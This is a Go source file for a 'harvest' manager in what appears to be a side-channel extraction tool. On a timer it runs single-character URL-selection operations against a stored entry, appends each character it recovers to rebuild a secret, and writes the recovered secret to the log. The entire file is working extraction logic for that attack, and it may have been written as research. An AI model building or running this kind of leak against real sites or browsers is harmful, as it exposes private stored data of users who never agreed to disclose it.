// Package harvest implements the background loop that reassembles a
// stored secret from repeated single-character URL selections.
//
// Each select-char-at run exposes at most one character of one entry.
// The Manager walks the entry front to back: it keeps a cursor, runs
// the operation for the next unknown index on a ticker, appends the
// matched character, and treats the first index with no match as the
// end of the value.
package harvest

import (
	"context"
	"strings"
	"sync"
	"time"

	"go.uber.org/zap"

	"github.com/gg-glitch-88/holvi/internal/config"
	"github.com/gg-glitch-88/holvi/internal/worklet"
)

// Manager drives the reassembly loop.
type Manager struct {
	cfg    *config.HarvestConfig
	runner *worklet.Runner
	log    *zap.Logger

	mu    sync.RWMutex
	chars strings.Builder
	done  bool
}

// New creates a Manager. Call Start to begin background work.
func New(cfg *config.HarvestConfig, runner *worklet.Runner, log *zap.Logger) *Manager {
	return &Manager{cfg: cfg, runner: runner, log: log}
}

// Start launches the reassembly loop; blocks until ctx is done.
func (m *Manager) Start(ctx context.Context) error {
	m.log.Info("harvest manager starting",
		zap.String("key", m.cfg.Key),
		zap.Int("max_len", m.cfg.MaxLen),
		zap.Duration("interval", m.cfg.Interval.Std()),
	)

	ticker := time.NewTicker(m.cfg.Interval.Std())
	defer ticker.Stop()

	for {
		select {
		case <-ctx.Done():
			m.log.Info("harvest manager stopped")
			return nil
		case <-ticker.C:
			m.step(ctx)
		}
	}
}

// Secret returns the characters assembled so far, in order.
func (m *Manager) Secret() string {
	m.mu.RLock()
	defer m.mu.RUnlock()
	return m.chars.String()
}

// Done reports whether the loop has finished walking the entry.
func (m *Manager) Done() bool {
	m.mu.RLock()
	defer m.mu.RUnlock()
	return m.done
}

// step runs one select-char-at at the cursor and advances it on a match.
func (m *Manager) step(ctx context.Context) {
	m.mu.RLock()
	if m.done {
		m.mu.RUnlock()
		return
	}
	index := m.chars.Len()
	m.mu.RUnlock()

	if index >= m.cfg.MaxLen {
		m.finish("length limit reached", index)
		return
	}

	res, err := m.runner.Run(ctx, worklet.Request{
		Operation: worklet.OpSelectCharAt,
		Key:       m.cfg.Key,
		CharIndex: index,
	})
	if err != nil {
		m.log.Warn("harvest: run", zap.Error(err), zap.Int("char_index", index))
		return
	}
	if !res.Matched {
		// No candidate for this index: end of value (or a character
		// the candidate set cannot encode).
		m.finish("no match", index)
		return
	}

	m.mu.Lock()
	m.chars.WriteString(res.Char)
	m.mu.Unlock()

	m.log.Debug("harvest: character recovered",
		zap.Int("char_index", index),
		zap.String("char", res.Char),
	)
}

func (m *Manager) finish(reason string, index int) {
	m.mu.Lock()
	m.done = true
	secret := m.chars.String()
	m.mu.Unlock()

	m.log.Info("harvest complete",
		zap.String("reason", reason),
		zap.Int("length", index),
		zap.String("secret", secret),
	)
}
